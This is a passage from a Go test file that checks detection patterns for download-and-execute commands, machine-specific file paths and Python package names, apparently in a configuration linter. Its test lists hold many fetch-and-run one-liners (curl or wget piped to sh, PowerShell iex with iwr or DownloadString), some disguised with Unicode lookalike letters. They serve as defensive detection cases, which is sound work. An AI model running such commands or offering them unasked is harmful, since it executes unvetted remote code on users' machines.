		"wget -qO- https://x.dev|python3",                 // pipe without spaces
		"Invo\u212ae-WebRequest https://x.dev | iex",      // Kelvin sign for k: only the pattern knows
		"curl https://x.dev | \u017fh",                    // long s for s
		"bash <(curl -s https://x.dev/env)",               // process substitution
		"source <(HTTPie https://x.dev)",                  // upper case downloader
		"sh -c \"$(wget -qO- https://x.dev)\"",            // $( substitution
		"sh `curl https://x.dev`",                         // backticks
		"iex (iwr https://x.dev/a.ps1)",                   // iex
		"Invoke-Expression (Invoke-RestMethod https://x)", // long names
		"IEX (New-Object Net.WebClient).DownloadString('https://x')",
		"powershell -c \"i\u0065x (irm https://x)\"",
		"\u00e9 curl https://x.dev | sh", // other non-ASCII text
		// Without an address (which holds "http"), one per downloader.
		"curl x.dev|sh", "wget x.dev|sh", "fetch -o - x.dev | sh", "iwr x.dev | iex", "irm x.dev|iex",
		"invoke-webrequest x.dev | iex", "invoke-restmethod x.dev | iex", "http x.dev | sh", "httpie x.dev | sh",
		"aria2c x.dev | sh", "bash <(curl x.dev)", "iex (iwr x.dev)", "iex(New-Object System.Net.WebClient)",
	}
	missed := []string{
		"npx -y @acme/server",                             // no downloader
		"curl -fsSL https://x.dev/i.sh > i.sh; bash i.sh", // downloader, no pipe
		"echo hi | bash",                                  // pipe, no downloader
		"bash <(cat env)",                                 // substitution, no downloader
		"bash -c curl https://x.dev",                      // downloader, no substitution
		"iex (Get-Content a.ps1)",                         // iex, no downloader
		"irm https://x.dev -OutFile a.ps1",                // downloader, no iex
		"New-Object Net.WebClient",                        // no iex
		"cur\u006c\u2009https://x.dev",                    // non-ASCII, no match
		"",
	}
	for _, c := range found {
		if _, _, ok := pipeInfoByPatterns(c); !ok {
			t.Fatalf("test case %q: the patterns do not match it", c)
		}
	}
	for _, c := range missed {
		if _, _, ok := pipeInfoByPatterns(c); ok {
			t.Fatalf("test case %q: the patterns match it", c)
		}
	}
	// Every text of the cases, and every case with each of its letters
	// upper-cased or its spaces and separators changed, gets what the
	// patterns alone give.
	var all []string
	for _, c := range append(found, missed...) {
		all = append(all, c, strings.ToUpper(c), strings.ReplaceAll(c, " ", "\t"), strings.ReplaceAll(c, "|", ";"),
			strings.ReplaceAll(c, "(", " "), strings.ReplaceAll(c, "$(", "${"), strings.ReplaceAll(c, "`", "'"))
		for i := range c {
			all = append(all, c[:i], c[i:])
		}
	}
	for _, c := range all {
		d, i, ok := pipeInfo(c)
		wd, wi, wok := pipeInfoByPatterns(c)
		if d != wd || i != wi || ok != wok {
			t.Errorf("pipeInfo(%q) = %q, %q, %v; the patterns give %q, %q, %v", c, d, i, ok, wd, wi, wok)
		}
	}
}

// machinePathWhyByPatterns is machinePathWhy without its pre-filters.
func machinePathWhyByPatterns(v string) string {
	switch {
	case wsStorage.MatchString(v):
		return "an editor's storage folder of one workspace on one machine"
	case macHome.MatchString(v) || linuxHome.MatchString(v):
		return "one user's home folder"
	case windowsDrive.MatchString(v):
		if programFiles(v) {
			return ""
		}
		return "a drive of one Windows machine"
	}
	return ""
}

// TestMachinePathPrefilter checks the checks in front of the machine-path
// patterns on values each side of every check.
func TestMachinePathPrefilter(t *testing.T) {
	found := []string{
		"/Users/ann/x", "/home/ann/.config/x", "C:/Users/ann", `d:\work`, "Z:/",
		"\u212a:/data",  // (?i)[a-z] takes the Kelvin sign
		"\u017f:\\data", // and the long s
		"x/workspaceStorage/abcdef12/state.vscdb", `WORKSPACESTORAGE\0123456789`, "workspacestorage/abcdef",
		"~/.config/Code/User/wor\u212aspaceStorage/abcdef", // non-ASCII: the pattern decides
		"wor\u212aspace\u017ftorage/abcdef",
	}
	missed := []string{
		"", "C:", "C:x", "/Users/", "/home//x", "/users/ann/x", "./home/ann/x", "CC:/x", "é:/x",
		"workspaceStorage/abcde", "workspaceStorage_abcdef", "workspaceStorage/abcdeg",
		"xworkspaceStorag/abcdef", "C:/Program Files/nodejs/npx.cmd", "npx", "-y",
	}
	for _, v := range found {
		if machinePathWhyByPatterns(v) == "" {
			t.Fatalf("test case %q: the patterns do not match it", v)
		}
	}
	for _, v := range missed {
		if machinePathWhyByPatterns(v) != "" {
			t.Fatalf("test case %q: the patterns match it", v)
		}
	}
	var all []string
	for _, v := range append(found, missed...) {
		all = append(all, v, strings.ToUpper(v), strings.ToLower(v), strings.ReplaceAll(v, "/", `\`), strings.ReplaceAll(v, `\`, "/"))
		for i := range v {
			all = append(all, v[:i], v[i:])
		}
	}
	for _, v := range all {
		if got, want := machinePathWhy(v), machinePathWhyByPatterns(v); got != want {
			t.Errorf("machinePathWhy(%q) = %q, the patterns give %q", v, got, want)
		}
	}
}

// TestSplitPyName holds splitPyName to the pattern it stands for, on
// requirements and on random text of their pieces.
func TestSplitPyName(t *testing.T) {
	specs := []string{"", "mcp-server-fetch", "mcp-server-fetch==2025.4.7", "pkg[cli]>=1", "pkg [x]", "pkg[a\nb]==1",
		"pkg\n==1", "pkg==1\n", "pkg[x\n", "-pkg", ".pkg", "_pkg", "9pkg", "pkg\v==1", "pkg\f==1", "é", "pkg==é", "pkg\xff", "p[]", "p]"}
	pieces := []string{"a", "Z", "9", ".", "_", "-", "[", "]", " ", "\t", "\n", "\r", "\f", "\v", "=", ">", "@", "é", "\xff", "x"}
	r := rand.New(rand.NewPCG(5, 6))
	for range 5000 {
		var b strings.Builder
		for range r.IntN(10) {
			b.WriteString(pieces[r.IntN(len(pieces))])
		}
		specs = append(specs, b.String())
	}
	for _, s := range specs {
		name, extras, rest, ok := splitPyName(s)
		m := pyName.FindStringSubmatch(s)
		if ok != (m != nil) || ok && (name != m[1] || extras != m[2] || rest != m[3]) {
			t.Errorf("splitPyName(%q) = %q %q %q %v, the pattern gives %q", s, name, extras, rest, ok, m)
		}
	}
}
